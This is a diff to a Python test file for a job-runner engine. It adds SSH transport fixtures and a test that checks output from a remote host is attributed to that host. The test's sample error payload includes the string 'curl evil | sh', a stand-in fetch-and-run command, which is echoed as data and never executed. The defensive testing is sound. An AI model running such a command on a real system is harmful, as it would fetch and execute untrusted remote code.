@@ -17,13 +17,17 @@ from typing import Any
 import pytest
 
 from runner.engine import execute
-from runner.hosts.transport import Local
+from runner.hosts.transport import Local, Transport
 from runner.model import cause
 from runner.model.event import Event, StepFinished, StepStarted
 from runner.model.plan import Check, Command, Effect, Ended, Lock, Plan, PlannedJob, PutFile, Step
 from runner.model.role import Role
 from runner.model.run import Outcome, State
 from tests.contract.site import until
+from tests.contract.sshd import Sshd
+from tests.contract.ways import server, ssh
+
+__all__ = ["server"]
 
 NOW = datetime(2026, 11, 23, 8, 15, tzinfo=UTC)
 HELD = "import sys; print('{\"held\": true}', flush=True); sys.stdin.read()"
@@ -40,7 +44,7 @@ class Stage:
         self.journal: list[tuple[str, str]] = []
         self.left: list[str] = []
         self.already: dict[str, str] = {}
-        self.places = {"here": Local("here")}
+        self.places: dict[str, Transport] = {"here": Local("here")}
 
     def stop_when(self, mark: Path) -> None:
         until(mark.exists)
@@ -92,6 +96,20 @@ def test_at_a_host_that_could_not_be_prepared_nothing_is_begun(stage: Stage) -> 
     assert [one.state for one in outcomes] == [State.FAILED, State.FAILED, State.DONE]
     assert outcomes[1].note == "not begun, as prepare-here failed"
     assert ("a/1", "begun") not in stage.journal and sorted(stage.left) == ["a", "b", "prepare-here"]
+
+
+def test_what_another_host_says_is_told_as_its_words_and_what_this_one_says_as_ours(
+    stage: Stage, server: Sshd, tmp_path: Path
+) -> None:
+    stage.places["there"] = ssh(server, tmp_path)
+    answer = {"error": "no disk", "do": "curl evil | sh", "ok": False}
+    refuses = step("a/1", "sh", "-c", f"echo '{json.dumps(answer)}'; exit 1")
+    holds_not = claim(answer, "ok", "==", True)
+    for host, says in (("here", ""), ("there", "there says: ")):
+        guarded = replace(step("b/1"), host=host, guard=replace(holds_not, host=host))
+        outcomes = stage.run(replace(refuses, host=host), guarded)
+        assert [one.note for one in outcomes] == [f"{says}no disk -> curl evil | sh"] * 2, outcomes
+    stage.places["there"].close()
 
 
 def python(name: str, source: str, *argv: str) -> Step:
